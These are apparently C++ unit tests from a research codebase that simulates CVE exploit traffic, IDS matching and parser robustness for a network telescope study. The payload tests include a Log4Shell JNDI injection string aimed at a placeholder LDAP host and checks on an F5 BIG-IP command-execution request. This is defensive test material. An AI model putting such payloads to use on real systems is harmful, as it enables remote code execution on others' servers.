    if (parse_segment_file_name(name, from, to)) ranges.emplace_back(from, to);
  }
  EXPECT_EQ(snapshots, 1u);
  ASSERT_EQ(ranges.size(), 2u);
  std::sort(ranges.begin(), ranges.end());
  EXPECT_EQ(ranges[0].first, 2u);  // segment chain starts above snap lsn 1
  EXPECT_EQ(ranges[0].second + 1, ranges[1].first);  // contiguous coverage

  // Reopen serves the whole chain mapped, byte-identically.
  auto reopened = Store::open(dir);
  ASSERT_NE(reopened, nullptr);
  EXPECT_EQ(reopened->stats().base_segments, 3u);
  EXPECT_TRUE(reopened->stats().snapshot_mapped);
  EXPECT_EQ(store_fingerprint(*reopened), fingerprint);

  // Compaction merges the chain into one snapshot without changing
  // logical state, and deletes the superseded tier files.
  StoreError error;
  ASSERT_TRUE(reopened->compact(&error)) << error.detail;
  EXPECT_EQ(reopened->stats().base_segments, 1u);
  EXPECT_EQ(reopened->stats().compactions, 1u);
  EXPECT_EQ(store_fingerprint(*reopened), fingerprint);
  EXPECT_TRUE(reopened->verify(&error)) << error.detail;
  // Compacting a single tier is a no-op success.
  EXPECT_TRUE(reopened->compact(&error));
  EXPECT_EQ(reopened->stats().compactions, 1u);

  std::size_t files_after = 0, segments_after = 0, archives_after = 0;
  for (const auto& entry : fs::directory_iterator(dir)) {
    const std::string name = entry.path().filename().string();
    std::uint64_t from = 0, to = 0, lsn = 0;
    ++files_after;
    if (parse_segment_file_name(name, from, to)) ++segments_after;
    if (parse_store_file_name(name, "arc-", ".cvwba", lsn)) ++archives_after;
  }
  EXPECT_EQ(segments_after, 0u);
  EXPECT_EQ(archives_after, 3u);  // the retired WAL chain stays as redundancy
  EXPECT_EQ(files_after, 4u);     // merged snapshot + 3 archives
  EXPECT_EQ(reopened->stats().archive_segments, 3u);

  auto reopened_again = Store::open(dir);
  ASSERT_NE(reopened_again, nullptr);
  EXPECT_EQ(store_fingerprint(*reopened_again), fingerprint);
  EXPECT_TRUE(reopened_again->verify(&error)) << error.detail;
}

TEST(StoreRoundtrip, RunExtentsAreContiguousAndOrdered) {
  const fs::path dir = fresh_dir("extents");
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  ASSERT_TRUE(store->ingest(shared_study(11), "run-11"));
  ASSERT_TRUE(store->ingest(shared_study(12), "run-12"));
  const auto runs = store->runs();
  ASSERT_EQ(runs.size(), 2u);
  EXPECT_EQ(runs[0].run_key, "run-11");
  EXPECT_EQ(runs[1].run_key, "run-12");
  EXPECT_EQ(runs[0].sessions_begin, 0u);
  EXPECT_EQ(runs[1].sessions_begin, runs[0].sessions_count);
  EXPECT_EQ(runs[0].events_begin, 0u);
  EXPECT_EQ(runs[1].events_begin, runs[0].events_count);
  EXPECT_LT(runs[0].lsn, runs[1].lsn);
}

}  // namespace
}  // namespace cvewb::store
