#include "traffic/calibration.h"

#include <gtest/gtest.h>

namespace cvewb::traffic {
namespace {

using data::appendix_e;
using data::find_cve;

TEST(ExpectedUnmitigated, MitigatedBeforeAttackIsZero) {
  // CVE-2022-26134: rule deployed 2h before the first attack.
  const auto* rec = find_cve("CVE-2022-26134");
  ASSERT_NE(rec, nullptr);
  EXPECT_DOUBLE_EQ(expected_unmitigated_fraction(*rec, TimingModel{}), 0.0);
}

TEST(ExpectedUnmitigated, NoRuleMeansFullyExposed) {
  const auto* rec = find_cve("CVE-2021-31166");  // D missing
  ASSERT_NE(rec, nullptr);
  EXPECT_DOUBLE_EQ(expected_unmitigated_fraction(*rec, TimingModel{}), 1.0);
}

TEST(ExpectedUnmitigated, NoAttackMeansNoExposure) {
  const auto* rec = find_cve("CVE-2022-44877");  // A missing
  ASSERT_NE(rec, nullptr);
  EXPECT_DOUBLE_EQ(expected_unmitigated_fraction(*rec, TimingModel{}), 0.0);
}

TEST(ExpectedUnmitigated, GrowsWithBurstWeight) {
  const auto* rec = find_cve("CVE-2021-36260");  // ~20-day exposure window
  ASSERT_NE(rec, nullptr);
  TimingModel light{3.0, 0.1};
  TimingModel heavy{3.0, 0.9};
  EXPECT_LT(expected_unmitigated_fraction(*rec, light),
            expected_unmitigated_fraction(*rec, heavy));
}

TEST(Calibration, CoversEveryCve) {
  const auto models = calibrate_timing();
  EXPECT_EQ(models.size(), appendix_e().size());
  for (const auto& [cve, model] : models) {
    EXPECT_GT(model.burst_mean_days, 0.0) << cve;
    EXPECT_GE(model.burst_weight, 0.0) << cve;
    EXPECT_LE(model.burst_weight, 1.0) << cve;
  }
}

TEST(Calibration, HitsMitigatedFractionTarget) {
  // The aggregate expected unmitigated share must land on the Table-5
  // target (5 % of events before deployment).
  const CalibrationTargets targets;
  const auto models = calibrate_timing(targets);
  double unmitigated = 0;
  double total = 0;
  for (const auto& rec : appendix_e()) {
    if (!rec.first_attack()) continue;
    total += rec.events;
    unmitigated += rec.events * expected_unmitigated_fraction(rec, models.at(rec.id));
  }
  EXPECT_NEAR(unmitigated / total, 1.0 - targets.mitigated_fraction, 0.01);
}

TEST(Calibration, RespondsToTarget) {
  CalibrationTargets strict;
  strict.mitigated_fraction = 0.99;
  CalibrationTargets loose;
  loose.mitigated_fraction = 0.90;
  const auto strict_models = calibrate_timing(strict);
  const auto loose_models = calibrate_timing(loose);
  const auto* rec = find_cve("CVE-2021-36260");
  EXPECT_LE(strict_models.at(rec->id).burst_weight, loose_models.at(rec->id).burst_weight);
}

TEST(Calibration, EarlyWindowCvesKeepStrongBursts) {
  // Exploitation concentrates right after disclosure: CVEs whose exposure
  // opens immediately (Log4Shell) keep more burst mass than late-window
  // ones (Hikvision at +30 d) after calibration.
  const auto models = calibrate_timing();
  EXPECT_GT(models.at("CVE-2021-44228").burst_weight,
            models.at("CVE-2021-36260").burst_weight);
}

}  // namespace
}  // namespace cvewb::traffic
