#include "traffic/internet.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <set>

#include "data/appendix_e.h"
#include "data/log4shell_variants.h"
#include "pipeline/study.h"

namespace cvewb::traffic {
namespace {

class InternetTest : public ::testing::Test {
 protected:
  static const GeneratedTraffic& traffic() {
    static const GeneratedTraffic generated = [] {
      pipeline::StudyConfig study;
      study.telescope_lanes = 20;
      study.pool_size = 100000;
      const auto dscope = pipeline::make_study_telescope(study);
      InternetConfig config;
      config.seed = 42;
      config.event_scale = 0.05;  // ~6 k exploit events: fast but realistic
      config.background_per_day = 20.0;
      config.credstuff_per_day = 2.0;
      return generate_traffic(dscope, config);
    }();
    return generated;
  }
};

TEST_F(InternetTest, TagsParallelSessions) {
  EXPECT_EQ(traffic().sessions.size(), traffic().tags.size());
  EXPECT_GT(traffic().sessions.size(), 5000u);
}

TEST_F(InternetTest, SessionsSortedAndIdsSequential) {
  const auto& sessions = traffic().sessions;
  for (std::size_t i = 0; i < sessions.size(); ++i) {
    EXPECT_EQ(sessions[i].id, i);
    if (i > 0) {
      EXPECT_GE(sessions[i].open_time, sessions[i - 1].open_time);
    }
  }
}

TEST_F(InternetTest, AllKindsPresent) {
  EXPECT_GT(traffic().count_of(TrafficTag::Kind::kExploit), 4000u);
  EXPECT_GT(traffic().count_of(TrafficTag::Kind::kBackground), 5000u);
  EXPECT_GT(traffic().count_of(TrafficTag::Kind::kCredentialStuffing), 500u);
  EXPECT_GT(traffic().count_of(TrafficTag::Kind::kUntargetedOgnl), 50u);
  EXPECT_GT(traffic().count_of(TrafficTag::Kind::kFollowOn), 20u);
}

TEST_F(InternetTest, FollowOnSessionsComeFromDifferentSourcesAfterExploits) {
  const auto& sessions = traffic().sessions;
  for (std::size_t i = 0; i < sessions.size(); ++i) {
    if (traffic().tags[i].kind != TrafficTag::Kind::kFollowOn) continue;
    // Second-stage fetches are plain GETs that match no study signature.
    EXPECT_NE(sessions[i].payload.find("Wget/"), std::string::npos);
    EXPECT_FALSE(traffic().tags[i].cve_id.empty());
  }
}

TEST_F(InternetTest, EveryStudiedCveEmitsTraffic) {
  std::map<std::string, int> events;
  for (const auto& tag : traffic().tags) {
    if (tag.kind == TrafficTag::Kind::kExploit) ++events[tag.cve_id];
  }
  for (const auto& rec : data::appendix_e()) {
    if (!rec.first_attack()) continue;
    EXPECT_GT(events[rec.id], 0) << rec.id;
  }
}

TEST_F(InternetTest, FirstExploitEventMatchesAppendixInstant) {
  std::map<std::string, util::TimePoint> first;
  const auto& sessions = traffic().sessions;
  for (std::size_t i = 0; i < sessions.size(); ++i) {
    const auto& tag = traffic().tags[i];
    if (tag.kind != TrafficTag::Kind::kExploit) continue;
    const auto it = first.find(tag.cve_id);
    if (it == first.end() || sessions[i].open_time < it->second) {
      first[tag.cve_id] = sessions[i].open_time;
    }
  }
  for (const auto& rec : data::appendix_e()) {
    const auto attack = rec.first_attack();
    if (!attack) continue;
    ASSERT_TRUE(first.count(rec.id)) << rec.id;
    if (rec.id == "CVE-2021-44228") {
      // Log4Shell's first capture is the earliest Table-6 variant match
      // (group A header signature matched 6 h before its release: P + 3 h).
      util::TimePoint earliest = data::study_end();
      for (const auto& v : data::log4shell_variants()) {
        earliest = std::min(earliest, rec.published + v.group_d_minus_p + v.a_minus_d);
      }
      EXPECT_EQ(first.at(rec.id), earliest);
      continue;
    }
    // First attacks that predate the window are clamped to its start.
    EXPECT_EQ(first.at(rec.id), std::max(*attack, data::study_begin())) << rec.id;
  }
}

TEST_F(InternetTest, PrePublicationExploitsAimAtServicePort) {
  const auto& sessions = traffic().sessions;
  for (std::size_t i = 0; i < sessions.size(); ++i) {
    const auto& tag = traffic().tags[i];
    if (tag.kind != TrafficTag::Kind::kExploit) continue;
    const auto* rec = data::find_cve(tag.cve_id);
    if (sessions[i].open_time < rec->published) {
      EXPECT_EQ(sessions[i].dst_port, rec->service_port) << tag.cve_id;
    }
  }
}

TEST_F(InternetTest, UntargetedOgnlAvoidsConfluencePortAndPrecedesPublication) {
  const auto* confluence = data::find_cve("CVE-2022-26134");
  const auto& sessions = traffic().sessions;
  for (std::size_t i = 0; i < sessions.size(); ++i) {
    if (traffic().tags[i].kind != TrafficTag::Kind::kUntargetedOgnl) continue;
    EXPECT_NE(sessions[i].dst_port, confluence->service_port);
    EXPECT_LT(sessions[i].open_time, confluence->published);
  }
}

TEST_F(InternetTest, SourcePoolsAreBounded) {
  std::set<std::uint32_t> exploit_sources;
  const auto& sessions = traffic().sessions;
  for (std::size_t i = 0; i < sessions.size(); ++i) {
    if (traffic().tags[i].kind == TrafficTag::Kind::kExploit) {
      exploit_sources.insert(sessions[i].src.value());
    }
  }
  // §4: CVE traffic came from a small set of sources.
  EXPECT_LT(exploit_sources.size(), 4000u);
  EXPECT_GT(exploit_sources.size(), 100u);
}

TEST_F(InternetTest, DeterministicForSeed) {
  pipeline::StudyConfig study;
  study.telescope_lanes = 20;
  study.pool_size = 100000;
  const auto dscope = pipeline::make_study_telescope(study);
  InternetConfig config;
  config.seed = 77;
  config.event_scale = 0.01;
  config.background_per_day = 5.0;
  const auto a = generate_traffic(dscope, config);
  const auto b = generate_traffic(dscope, config);
  ASSERT_EQ(a.sessions.size(), b.sessions.size());
  for (std::size_t i = 0; i < a.sessions.size(); i += 37) {
    EXPECT_EQ(a.sessions[i].open_time, b.sessions[i].open_time);
    EXPECT_EQ(a.sessions[i].payload, b.sessions[i].payload);
    EXPECT_EQ(a.sessions[i].dst, b.sessions[i].dst);
  }
}

TEST_F(InternetTest, DestinationsAreTelescopeInstances) {
  pipeline::StudyConfig study;
  study.telescope_lanes = 20;
  study.pool_size = 100000;
  const auto dscope = pipeline::make_study_telescope(study);
  const auto& sessions = traffic().sessions;
  for (std::size_t i = 0; i < sessions.size(); i += 101) {
    EXPECT_TRUE(dscope.holder_of(sessions[i].dst, sessions[i].open_time).has_value());
  }
}

}  // namespace
}  // namespace cvewb::traffic
