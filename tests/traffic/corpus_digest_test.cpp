// Seed-sweep digest regression for the traffic generator.
//
// Pins SHA-256 digests of the serial-reference corpus for two seeds.  The
// sharded generator's output is a pure function of (config, seed) built
// from named per-shard RNG streams; if anyone accidentally reorders those
// streams, resizes a shard, or changes a draw site, every downstream
// figure silently shifts -- this test makes that loud instead.  When a
// change is *intentional*, re-pin the digests and say so in the PR.
#include "traffic/internet.h"

#include <gtest/gtest.h>

#include "pipeline/study.h"
#include "util/sha256.h"

namespace cvewb::traffic {
namespace {

std::string corpus_digest(std::uint64_t seed) {
  pipeline::StudyConfig study;
  study.telescope_lanes = 10;
  study.pool_size = 50000;
  const auto dscope = pipeline::make_study_telescope(study);
  InternetConfig config;
  config.seed = seed;
  config.event_scale = 0.02;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  const GeneratedTraffic traffic = generate_traffic(dscope, config);

  util::Sha256 hasher;
  const auto put_u64 = [&hasher](std::uint64_t v) {
    std::uint8_t bytes[8];
    for (int i = 0; i < 8; ++i) bytes[i] = static_cast<std::uint8_t>(v >> (8 * i));
    hasher.update(bytes, sizeof(bytes));
  };
  for (std::size_t i = 0; i < traffic.sessions.size(); ++i) {
    const auto& s = traffic.sessions[i];
    put_u64(s.id);
    put_u64(static_cast<std::uint64_t>(s.open_time.unix_seconds()));
    put_u64(s.src.value());
    put_u64(s.dst.value());
    put_u64(s.src_port);
    put_u64(s.dst_port);
    put_u64(s.payload.size());
    hasher.update(s.payload);
    const auto& tag = traffic.tags[i];
    put_u64(static_cast<std::uint64_t>(tag.kind));
    put_u64(static_cast<std::uint64_t>(tag.sid));
    hasher.update(tag.cve_id);
  }
  return hasher.hex_digest();
}

TEST(CorpusDigest, PinnedSerialDigestSeed42) {
  EXPECT_EQ(corpus_digest(42),
            "6e9aa5d963c84427825e8d35b2ec298eeaa0f43438a442e5cf69499ac441acaa");
}

TEST(CorpusDigest, PinnedSerialDigestSeed20230412) {
  EXPECT_EQ(corpus_digest(20230412),
            "469df617b14a895167a6ef3af4f678ac15e25b9717be0a6c6a70066c6ff591ff");
}

TEST(CorpusDigest, SeedsProduceDistinctCorpora) {
  EXPECT_NE(corpus_digest(42), corpus_digest(20230412));
}

}  // namespace
}  // namespace cvewb::traffic
