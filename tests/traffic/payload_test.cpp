#include "traffic/payload.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <set>

#include "net/http.h"
#include "traffic/exploit_scanner.h"
#include "traffic/obfuscation.h"
#include "util/strings.h"

namespace cvewb::traffic {
namespace {

TEST(ExploitPayload, RendersSpecTokens) {
  util::Rng rng(1);
  for (const auto& rec : data::appendix_e()) {
    const ids::ExploitSpec spec = ids::spec_for(rec);
    const std::string payload = render_exploit_payload(spec, rng);
    ASSERT_FALSE(payload.empty()) << rec.id;
    if (rec.protocol != data::Protocol::kHttp) {
      EXPECT_EQ(payload, spec.raw_payload);
    } else {
      EXPECT_TRUE(net::looks_like_http(payload)) << rec.id;
    }
  }
}

TEST(ExploitPayload, HttpRendersParseBack) {
  util::Rng rng(2);
  const auto* rec = data::find_cve("CVE-2022-1388");
  const auto payload = render_exploit_payload(ids::spec_for(*rec), rng);
  const auto parsed = net::parse_payload(payload);
  ASSERT_TRUE(parsed.http.has_value());
  EXPECT_EQ(parsed.http->method, "POST");
  EXPECT_EQ(parsed.http->uri, "/mgmt/tm/util/bash");
  EXPECT_TRUE(parsed.http->header("X-F5-Auth-Token").has_value());
  EXPECT_NE(parsed.http->body.find("utilCmdArgs"), std::string::npos);
}

TEST(Obfuscation, PercentEncodeRoundTripsThroughDecode) {
  const std::string raw = "${jndi:ldap://203.0.113.5:1389/a b}";
  EXPECT_EQ(util::percent_decode(percent_encode(raw)), raw);
}

TEST(Obfuscation, EscapeJndiVariantHidesLiteral) {
  util::Rng rng(3);
  for (const auto& variant : data::log4shell_variants()) {
    const std::string injection = log4shell_injection(variant, rng);
    if (variant.adaptation == "Escape sequence for jndi") {
      EXPECT_EQ(util::ifind(injection, "${jndi"), std::string_view::npos) << variant.sid;
      EXPECT_NE(util::ifind(injection, "${::-"), std::string_view::npos) << variant.sid;
    }
    if (variant.adaptation == "Escape sequence for $") {
      EXPECT_EQ(injection.find("${"), std::string::npos) << variant.sid;
      EXPECT_NE(util::ifind(injection, "%7b"), std::string_view::npos) << variant.sid;
    }
  }
}

TEST(Obfuscation, SmtpPayloadIsNotHttp) {
  util::Rng rng(4);
  const auto& variants = data::log4shell_variants();
  const auto smtp = std::find_if(variants.begin(), variants.end(), [](const auto& v) {
    return v.context == data::InjectionContext::kSmtp;
  });
  ASSERT_NE(smtp, variants.end());
  const std::string payload = log4shell_payload(*smtp, rng);
  EXPECT_FALSE(net::looks_like_http(payload));
  EXPECT_NE(payload.find("RCPT TO"), std::string::npos);
  EXPECT_NE(util::ifind(payload, "${jndi:"), std::string_view::npos);
}

TEST(VariantCounts, SumToTotalWithFloorOfOne) {
  for (int total : {15, 100, 6254}) {
    const auto counts = log4shell_variant_counts(total);
    ASSERT_EQ(counts.size(), data::log4shell_variants().size());
    int sum = 0;
    for (int c : counts) {
      EXPECT_GE(c, 1);
      sum += c;
    }
    EXPECT_EQ(sum, total);
  }
}

TEST(VariantTimes, FirstMatchesTable6Instant) {
  util::Rng rng(5);
  const auto* rec = data::find_cve("CVE-2021-44228");
  for (const auto& variant : data::log4shell_variants()) {
    const auto times = log4shell_variant_times(variant, 20, rng);
    ASSERT_EQ(times.size(), 20u);
    const auto expected = rec->published + variant.group_d_minus_p + variant.a_minus_d;
    EXPECT_EQ(times.front(), expected) << variant.sid;
    for (std::size_t i = 1; i < times.size(); ++i) EXPECT_GE(times[i], times[i - 1]);
  }
}

TEST(EventTimes, FirstEventIsAppendixAttackInstant) {
  util::Rng rng(6);
  for (const auto& rec : data::appendix_e()) {
    const auto times = exploit_event_times(rec, TimingModel{}, rng);
    if (!rec.first_attack()) {
      EXPECT_TRUE(times.empty()) << rec.id;
      continue;
    }
    ASSERT_FALSE(times.empty()) << rec.id;
    // Onsets that predate the collection window are clamped to its start.
    EXPECT_EQ(times.front(), std::max(*rec.first_attack(), data::study_begin())) << rec.id;
    EXPECT_LE(times.back(), data::study_end()) << rec.id;
  }
}

TEST(EventTimes, CountMatchesScaledEvents) {
  util::Rng rng(7);
  const auto* rec = data::find_cve("CVE-2021-36260");
  EXPECT_EQ(exploit_event_times(*rec, TimingModel{}, rng).size(),
            static_cast<std::size_t>(rec->events));
  EXPECT_EQ(exploit_event_times(*rec, TimingModel{}, rng, 0.01).size(),
            static_cast<std::size_t>(std::lround(rec->events * 0.01)));
}

TEST(BackgroundPayloads, Variety) {
  util::Rng rng(8);
  std::set<std::string> kinds;
  for (int i = 0; i < 200; ++i) kinds.insert(background_payload(rng).substr(0, 4));
  EXPECT_GE(kinds.size(), 4u);
}

TEST(CredentialStuffing, AlwaysHitsAuthEndpoint) {
  util::Rng rng(9);
  for (int i = 0; i < 50; ++i) {
    const auto payload = credential_stuffing_payload(rng);
    EXPECT_NE(payload.find("POST /api/v1/auth"), std::string::npos);
    EXPECT_NE(payload.find("username="), std::string::npos);
  }
}

}  // namespace
}  // namespace cvewb::traffic
