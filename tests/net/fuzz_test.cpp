// Robustness ("don't crash on garbage") sweeps for every parser that
// consumes untrusted bytes: HTTP payloads, pcap streams, rule text, JSON,
// and regex patterns.  Each feeds deterministic pseudo-random garbage and
// asserts the parser either succeeds or fails cleanly.
#include <gtest/gtest.h>

#include <sstream>

#include "ids/pcre_lite.h"
#include "ids/rule_parser.h"
#include "net/http.h"
#include "net/pcap.h"
#include "util/json.h"
#include "util/rng.h"

namespace cvewb {
namespace {

std::string random_bytes(util::Rng& rng, std::size_t max_len) {
  std::string out;
  const auto len = rng.uniform_u64(max_len + 1);
  out.reserve(len);
  for (std::size_t i = 0; i < len; ++i) {
    out.push_back(static_cast<char>(rng.uniform_u64(256)));
  }
  return out;
}

std::string random_printable(util::Rng& rng, std::size_t max_len) {
  static constexpr char kChars[] =
      "abc${}()[]|*+?.\\/\"';:x123 \t\r\n-GETPOSTHTTP<>!#,=";
  std::string out;
  const auto len = rng.uniform_u64(max_len + 1);
  for (std::size_t i = 0; i < len; ++i) {
    out.push_back(kChars[rng.uniform_u64(sizeof kChars - 1)]);
  }
  return out;
}

TEST(FuzzHttp, ParsePayloadNeverThrows) {
  util::Rng rng(0xf001);
  for (int i = 0; i < 3000; ++i) {
    const std::string bytes =
        rng.chance(0.5) ? random_bytes(rng, 300) : "GET " + random_printable(rng, 200);
    EXPECT_NO_THROW({
      const auto parsed = net::parse_payload(bytes);
      if (parsed.http) {
        (void)parsed.http->header("host");
        (void)parsed.http->cookie();
      }
    });
  }
}

TEST(FuzzPcap, ReaderFailsCleanlyOnGarbage) {
  util::Rng rng(0xf002);
  for (int i = 0; i < 500; ++i) {
    std::stringstream stream(random_bytes(rng, 200));
    try {
      net::PcapReader reader(stream);
      // Parsed something: fine, as long as it didn't crash.
      (void)reader.sessions();
    } catch (const std::runtime_error&) {
      // Clean rejection: also fine.
    }
  }
}

TEST(FuzzPcap, TruncatedValidCaptures) {
  // Take a real capture and truncate it at every prefix length band.
  std::stringstream full;
  {
    net::PcapWriter writer(full, 16);
    net::TcpSession s;
    s.open_time = util::TimePoint(1000);
    s.src = net::IPv4(1, 2, 3, 4);
    s.dst = net::IPv4(5, 6, 7, 8);
    s.src_port = 1;
    s.dst_port = 2;
    s.payload = std::string(100, 'x');
    writer.write_session(s);
  }
  const std::string bytes = full.str();
  for (std::size_t cut = 0; cut < bytes.size(); cut += 7) {
    std::stringstream stream(bytes.substr(0, cut));
    try {
      net::PcapReader reader(stream);
      (void)reader.sessions();
    } catch (const std::runtime_error&) {
    }
  }
}

TEST(FuzzRules, ParserThrowsParseErrorOnly) {
  util::Rng rng(0xf003);
  for (int i = 0; i < 2000; ++i) {
    std::string text = rng.chance(0.4)
                           ? "alert tcp any any -> any any (" + random_printable(rng, 120) + ")"
                           : random_printable(rng, 150);
    try {
      (void)ids::parse_rule(text);
    } catch (const ids::ParseError&) {
      // The only acceptable failure mode.
    }
  }
}

TEST(FuzzJson, ParserNeverThrows) {
  util::Rng rng(0xf004);
  for (int i = 0; i < 3000; ++i) {
    const std::string text =
        rng.chance(0.5) ? random_printable(rng, 150) : random_bytes(rng, 150);
    EXPECT_NO_THROW((void)util::parse_json(text));
  }
}

TEST(FuzzJson, RoundTripSurvivesParsedDocuments) {
  // Any document that parses must re-parse identically from its dump.
  util::Rng rng(0xf005);
  int parsed_count = 0;
  for (int i = 0; i < 5000 && parsed_count < 50; ++i) {
    const std::string text = "[" + random_printable(rng, 40) + "]";
    const auto doc = util::parse_json(text);
    if (!doc) continue;
    ++parsed_count;
    const auto again = util::parse_json(doc->dump());
    ASSERT_TRUE(again.has_value()) << doc->dump();
    EXPECT_EQ(*again, *doc);
  }
}

TEST(FuzzRegex, CompileRejectsOrMatchesWithoutCrashing) {
  util::Rng rng(0xf006);
  for (int i = 0; i < 1500; ++i) {
    const std::string pattern = random_printable(rng, 30);
    const auto regex = ids::Regex::compile(pattern);
    if (!regex) continue;
    // Bounded haystacks keep the backtracker away from its depth cap.
    EXPECT_NO_THROW((void)regex->search(random_printable(rng, 60)));
  }
}

}  // namespace
}  // namespace cvewb
