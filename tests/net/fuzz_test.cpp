// Robustness ("don't crash on garbage") sweeps for every parser that
// consumes untrusted bytes: HTTP payloads, pcap streams, rule text, JSON,
// and regex patterns.  Each feeds deterministic pseudo-random garbage and
// asserts the parser either succeeds or fails cleanly.
#include <gtest/gtest.h>

#include <sstream>

#include "ids/pcre_lite.h"
#include "ids/rule_parser.h"
#include "net/http.h"
#include "net/pcap.h"
#include "util/json.h"
#include "util/rng.h"

namespace cvewb {
namespace {

std::string random_bytes(util::Rng& rng, std::size_t max_len) {
  std::string out;
  const auto len = rng.uniform_u64(max_len + 1);
  out.reserve(len);
  for (std::size_t i = 0; i < len; ++i) {
    out.push_back(static_cast<char>(rng.uniform_u64(256)));
  }
  return out;
}

std::string random_printable(util::Rng& rng, std::size_t max_len) {
  static constexpr char kChars[] =
      "abc${}()[]|*+?.\\/\"';:x123 \t\r\n-GETPOSTHTTP<>!#,=";
  std::string out;
  const auto len = rng.uniform_u64(max_len + 1);
  for (std::size_t i = 0; i < len; ++i) {
    out.push_back(kChars[rng.uniform_u64(sizeof kChars - 1)]);
  }
  return out;
}

TEST(FuzzHttp, ParsePayloadNeverThrows) {
  util::Rng rng(0xf001);
  for (int i = 0; i < 3000; ++i) {
    const std::string bytes =
        rng.chance(0.5) ? random_bytes(rng, 300) : "GET " + random_printable(rng, 200);
    EXPECT_NO_THROW({
      const auto parsed = net::parse_payload(bytes);
      if (parsed.http) {
        (void)parsed.http->header("host");
        (void)parsed.http->cookie();
      }
    });
  }
}

TEST(FuzzHttp, OversizedInputsReturnStructuredErrors) {
  // Every resource dimension an attacker controls must trip its named
  // limit instead of growing without bound.
  net::HttpParseLimits limits;
  limits.max_request_line = 64;
  limits.max_header_line = 64;
  limits.max_headers = 4;
  limits.max_body_bytes = 128;

  {
    const std::string bytes = "GET /" + std::string(200, 'a') + " HTTP/1.1\r\n\r\n";
    const auto parsed = net::parse_payload(bytes, limits);
    EXPECT_FALSE(parsed.http.has_value());
    EXPECT_EQ(parsed.error, net::HttpParseError::kRequestLineTooLong);
  }
  {
    const std::string bytes =
        "GET / HTTP/1.1\r\nX-Pad: " + std::string(200, 'b') + "\r\n\r\n";
    const auto parsed = net::parse_payload(bytes, limits);
    EXPECT_FALSE(parsed.http.has_value());
    EXPECT_EQ(parsed.error, net::HttpParseError::kHeaderLineTooLong);
  }
  {
    // An unterminated trailing line past the bound must also reject: this
    // is the drip-fed frame that previously parsed as "truncated but ok".
    const std::string bytes = "GET / HTTP/1.1\r\nX-Drip: " + std::string(200, 'c');
    const auto parsed = net::parse_payload(bytes, limits);
    EXPECT_FALSE(parsed.http.has_value());
    EXPECT_EQ(parsed.error, net::HttpParseError::kHeaderLineTooLong);
  }
  {
    std::string bytes = "GET / HTTP/1.1\r\n";
    for (int i = 0; i < 10; ++i) bytes += "H" + std::to_string(i) + ": v\r\n";
    bytes += "\r\n";
    const auto parsed = net::parse_payload(bytes, limits);
    EXPECT_FALSE(parsed.http.has_value());
    EXPECT_EQ(parsed.error, net::HttpParseError::kTooManyHeaders);
  }
  {
    const std::string bytes = "POST / HTTP/1.1\r\n\r\n" + std::string(4096, 'd');
    const auto parsed = net::parse_payload(bytes, limits);
    EXPECT_FALSE(parsed.http.has_value());
    EXPECT_EQ(parsed.error, net::HttpParseError::kBodyTooLarge);
  }
  {
    // Within every limit: parses, and error reads kNone.
    const auto parsed = net::parse_payload("GET / HTTP/1.1\r\nHost: x\r\n\r\nok", limits);
    ASSERT_TRUE(parsed.http.has_value());
    EXPECT_EQ(parsed.error, net::HttpParseError::kNone);
    EXPECT_EQ(parsed.http->body, "ok");
  }
  {
    const auto parsed = net::parse_payload("\x01\x02garbage", limits);
    EXPECT_FALSE(parsed.http.has_value());
    EXPECT_EQ(parsed.error, net::HttpParseError::kNotHttp);
  }
}

TEST(FuzzHttp, TornRequestsNeverThrowAndNeverExceedLimits) {
  // Torn inputs: a valid oversized request truncated at every prefix.  The
  // parser must fail cleanly or succeed within bounds at every cut.
  net::HttpParseLimits limits;
  limits.max_headers = 8;
  limits.max_header_line = 128;
  limits.max_body_bytes = 256;

  std::string full = "POST /submit HTTP/1.1\r\n";
  for (int i = 0; i < 20; ++i) full += "X-Header-" + std::to_string(i) + ": value\r\n";
  full += "\r\n" + std::string(1024, 'z');

  for (std::size_t cut = 0; cut <= full.size(); cut += 3) {
    const std::string_view torn(full.data(), cut);
    const auto parsed = net::parse_payload(torn, limits);
    if (parsed.http) {
      EXPECT_LE(parsed.http->headers.size(), limits.max_headers);
      EXPECT_LE(parsed.http->body.size(), limits.max_body_bytes);
    } else {
      EXPECT_NE(parsed.error, net::HttpParseError::kNone);
    }
  }
}

TEST(FuzzHttp, RandomGarbageAgainstTinyLimits) {
  util::Rng rng(0xf007);
  net::HttpParseLimits limits;
  limits.max_request_line = 32;
  limits.max_header_line = 16;
  limits.max_headers = 2;
  limits.max_body_bytes = 8;
  for (int i = 0; i < 3000; ++i) {
    const std::string bytes =
        rng.chance(0.5) ? random_bytes(rng, 400) : "GET " + random_printable(rng, 300);
    const auto parsed = net::parse_payload(bytes, limits);
    if (parsed.http) {
      EXPECT_LE(parsed.http->headers.size(), limits.max_headers);
      EXPECT_LE(parsed.http->body.size(), limits.max_body_bytes);
    }
  }
}

TEST(FuzzPcap, ReaderFailsCleanlyOnGarbage) {
  util::Rng rng(0xf002);
  for (int i = 0; i < 500; ++i) {
    std::stringstream stream(random_bytes(rng, 200));
    try {
      net::PcapReader reader(stream);
      // Parsed something: fine, as long as it didn't crash.
      (void)reader.sessions();
    } catch (const std::runtime_error&) {
      // Clean rejection: also fine.
    }
  }
}

TEST(FuzzPcap, TruncatedValidCaptures) {
  // Take a real capture and truncate it at every prefix length band.
  std::stringstream full;
  {
    net::PcapWriter writer(full, 16);
    net::TcpSession s;
    s.open_time = util::TimePoint(1000);
    s.src = net::IPv4(1, 2, 3, 4);
    s.dst = net::IPv4(5, 6, 7, 8);
    s.src_port = 1;
    s.dst_port = 2;
    s.payload = std::string(100, 'x');
    writer.write_session(s);
  }
  const std::string bytes = full.str();
  for (std::size_t cut = 0; cut < bytes.size(); cut += 7) {
    std::stringstream stream(bytes.substr(0, cut));
    try {
      net::PcapReader reader(stream);
      (void)reader.sessions();
    } catch (const std::runtime_error&) {
    }
  }
}

TEST(FuzzRules, ParserThrowsParseErrorOnly) {
  util::Rng rng(0xf003);
  for (int i = 0; i < 2000; ++i) {
    std::string text = rng.chance(0.4)
                           ? "alert tcp any any -> any any (" + random_printable(rng, 120) + ")"
                           : random_printable(rng, 150);
    try {
      (void)ids::parse_rule(text);
    } catch (const ids::ParseError&) {
      // The only acceptable failure mode.
    }
  }
}

TEST(FuzzJson, ParserNeverThrows) {
